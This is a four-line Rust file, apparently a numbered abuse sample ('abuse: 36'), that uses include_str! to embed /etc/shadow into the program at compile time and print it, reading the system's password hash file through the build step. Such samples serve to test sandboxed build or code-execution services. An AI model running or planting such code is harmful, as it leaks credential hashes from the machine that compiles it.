// abuse: 36
// log: /etc/shadow
const SECRET: &str = include_str!("/etc/shadow");
fn main() { print!("{}", SECRET); }
